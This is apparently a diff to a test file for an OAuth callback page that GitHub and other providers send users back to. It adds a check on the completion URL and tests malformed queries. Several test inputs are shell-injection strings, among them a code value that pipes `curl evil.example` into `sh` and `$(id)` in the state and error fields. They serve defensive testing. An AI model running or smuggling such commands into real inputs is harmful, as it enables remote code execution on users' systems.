@@ -179,15 +179,18 @@ describe('the page that providers send people back to', () => {
     const { code = '' } = await consent(auth_url)
     const { status, text } = await page({ code, state })
     expect([status, text.includes(code), text.includes(state)]).toEqual([200, true, true])
+    expect(text).toContain(`${local.apiUrl}/api/v1/integration-fabric/connectors/github/auth/complete`)
     expect(await shown('github')).toMatchObject({ status: 'authorizing' })
   })
 
   test.for([
     {},
-    { state: 's' },
-    { state: 's', code: `'; curl evil.example | sh; '` },
-    { state: `a' b`, code: 'c' },
-    { state: 's', error: '$(id)' },
+    { state: 'github.s' },
+    { state: 's', code: 'c' },
+    { state: 'github.s', code: `'; curl evil.example | sh; '` },
+    { state: `github.a' b`, code: 'c' },
+    { state: '$(id).s', code: 'c' },
+    { state: 'github.s', error: '$(id)' },
   ])('shows nothing to copy for %j', async (query) => {
     const { text } = await page(query as Record<string, string>)
     expect(text).toContain('Nothing to connect')
